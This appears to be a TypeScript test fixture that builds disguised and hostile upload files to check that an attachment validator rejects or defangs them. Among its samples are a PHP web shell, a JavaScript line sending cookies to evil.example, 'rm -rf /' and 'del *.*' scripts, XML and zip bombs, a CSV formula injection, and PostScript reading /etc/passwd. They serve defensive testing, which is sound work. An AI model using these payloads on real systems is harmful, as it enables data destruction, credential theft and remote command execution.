import { strToU8, zipSync } from 'fflate'
import { pdfFile } from '#tests/support/pdf-files.ts'
import { doc, docx, zip } from '#tests/support/sample-files.ts'
import { bytes, forContact, forKyc, type HostileFile, headOf, TRIAL_VIRUS } from './hostile-file.ts'

const MB = 1024 * 1024
const SCRIPTED_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
const FOREIGN_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>'
const ENTITIES = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}">]><a>&b;</a>`
const office = (type: string) => zipSync({ mimetype: [strToU8(type), { level: 0 }] })
const sheet = zipSync({
  '[Content_Types].xml': strToU8(
    '<?xml version="1.0"?><Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
  ),
})
const macroDocument = zipSync({
  '[Content_Types].xml': strToU8(
    '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
  ),
})

/** Files that are something else than they say, empty, or too large. */
export function disguisedFiles(): HostileFile[] {
  const other: [what: string, name: string, content: Uint8Array][] = [
    ['a Windows program', 'statement.pdf', headOf('4d5a9000', 'This program cannot be run in DOS mode')],
    ['a Linux program', 'photo.jpg', headOf('7f454c46 02010100')],
    ['a macOS program', 'photo.png', headOf('cffaedfe 07000001')],
    ['a Java class', 'id.pdf', headOf('cafebabe 00000034')],
    ['WebAssembly', 'id.png', headOf('0061736d 01000000')],
    ['a Windows shortcut', 'id.pdf', headOf('4c000000 01140200 00000000 c0000000 00000046')],
    ['a shell script', 'bill.pdf', bytes('#!/bin/sh\nrm -rf /\n')],
    ['PHP in the clothes of a photo', 'me.jpg', bytes('<?php system($_GET["c"]); ?>')],
    ['a web page', 'bill.pdf', bytes('<!doctype html><script>alert(document.cookie)</script>')],
    ['JavaScript', 'bill.js', bytes('fetch("https://evil.example/" + document.cookie)')],
    ['an SVG with a script', 'logo.svg', bytes(SCRIPTED_SVG)],
    ['an SVG with a script, as a PNG', 'logo.png', bytes(SCRIPTED_SVG)],
    ['an SVG with a page inside, as a JPG', 'logo.jpg', bytes(FOREIGN_SVG)],
    ['an XML whose entities grow', 'bill.pdf', bytes(ENTITIES)],
    ['a ZIP', 'bill.pdf', zip],
    ['a ZIP that unpacks to 64 MB', 'bill.zip', zipSync({ zeros: new Uint8Array(64 * MB) }, { level: 1 })],
    ['a Java archive', 'bill.jpg', zipSync({ 'META-INF/MANIFEST.MF': strToU8('Main-Class: Evil') })],
    ['a RAR', 'bill.pdf', headOf('526172211a070100')],
    ['a 7z', 'bill.pdf', headOf('377abcaf271c0004')],
    ['a gzip', 'bill.pdf', headOf('1f8b080000000000')],
    ['a GIF', 'me.jpg', headOf('474946383961 0100 0100 80')],
    ['a GIF that moves', 'me.gif', headOf('474946383961 0100 0100 80', '\x21\xff\x0bNETSCAPE2.0')],
    ['a BMP', 'me.png', headOf('424d 46000000 00000000 36000000 28000000')],
    ['a TIFF', 'scan.jpg', headOf('49492a0008000000')],
    ['a TIFF, bytes the other way', 'scan.tif', headOf('4d4d002a00000008')],
    ['a large TIFF', 'scan.tif', headOf('49492b0008000000 1000000000000000')],
    ['a WebP', 'me.jpg', headOf('52494646 24000000 57454250 56503820')],
    ['a WebP that moves', 'me.webp', headOf('52494646 24000000 57454250 56503858 0a000000 02000000')],
    ['a HEIC', 'me.heic', headOf('00000018 66747970 68656963 00000000')],
    ['a HEIC, as a JPG', 'me.jpg', headOf('00000018 66747970 6d696631 00000000')],
    ['an AVIF', 'me.png', headOf('00000018 66747970 61766966 00000000')],
    ['a JPEG XL', 'me.jpg', headOf('0000000c4a584c200d0a870a')],
    ['a JPEG 2000', 'me.jpg', headOf('0000000c6a5020200d0a870a 00000014667479706a703220')],
    ['an icon', 'me.png', headOf('00000100 0100')],
    ['a Photoshop file', 'me.jpg', headOf('38425053 0001')],
    ['a movie', 'me.jpg', headOf('00000018 66747970 69736f6d 00000000')],
    ['a song', 'me.jpg', headOf('494433 03000000000000')],
    ['a database', 'me.pdf', headOf('53514c69746520666f726d6174203300')],
    ['PostScript', 'bill.pdf', bytes('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')],
    ['rich text with an object', 'bill.pdf', bytes('{\\rtf1{\\object\\objautlink\\objupdate}}')],
    ['an email with attachments', 'bill.pdf', bytes('MIME-Version: 1.0\nContent-Type: multipart/mixed\n')],
    ['a Word document', 'bill.pdf', docx],
    ['an old Word document', 'bill.pdf', doc],
    ['a picture in front of a PDF', 'bill.pdf', Buffer.concat([headOf('474946383961 0100 0100 80'), pdfFile()])],
    ['a web page in front of a PDF', 'bill.pdf', Buffer.concat([bytes('<script>alert(1)</script>\n'), pdfFile()])],
    ['a program in front of a PDF', 'bill.pdf', Buffer.concat([headOf('4d5a9000'), pdfFile()])],
    ['a single NUL', 'bill.pdf', Buffer.alloc(1)],
    ['a megabyte of NULs', 'bill.pdf', Buffer.alloc(MB)],
  ]
  return [
    ...other.map(([what, name, content]) => forKyc(what, name, content, 'attachment_type')),
    forKyc('nothing at all', 'bill.pdf', new Uint8Array(), 'attachment_empty'),
    forKyc('more than 10 MB', 'bill.pdf', new Uint8Array(10 * MB + 1), 'attachment_too_large'),
    forContact('more than 2 MB', 'bill.txt', new Uint8Array(2 * MB + 1).fill(65), 'attachment_too_large'),
    forContact('a spreadsheet', 'list.docx', sheet, 'attachment_type'),
    forContact('a Word document with macros switched on', 'letter.docx', macroDocument, 'attachment_type'),
    forContact(
      'a text of another office',
      'letter.docx',
      office('application/vnd.oasis.opendocument.text'),
      'attachment_type',
    ),
    forContact('a book', 'letter.docx', office('application/epub+zip'), 'attachment_type'),
    forContact('a container that is no Word', 'letter.doc', doc.subarray(0, 900), 'attachment_type'),
    forContact('wide text', 'letter.txt', Buffer.from('<script>alert(1)</script>', 'utf16le'), 'attachment_type'),
    forContact('the trial virus', 'letter.txt', bytes(TRIAL_VIRUS), 'attachment_harmful'),
    // Text is harmless: it's kept and sent as text, under a name that says so.
    forContact('a page with a script', 'letter.html', bytes('<script>alert(1)</script>'), { name: 'letter.txt' }),
    forContact('an SVG with a script', 'letter.svg', bytes(SCRIPTED_SVG), { name: 'letter.txt' }),
    forContact('a table with a formula', 'list.csv', bytes("=cmd|' /C calc'!A0,1\n"), { name: 'list.txt' }),
    forContact('rich text with an object', 'letter.rtf', bytes('{\\rtf1{\\object\\objupdate}}'), {
      name: 'letter.txt',
    }),
    forContact('a batch file', 'letter.txt.bat', bytes('@echo off\r\ndel *.*\r\n'), { name: 'letter.txt.txt' }),
  ]
}
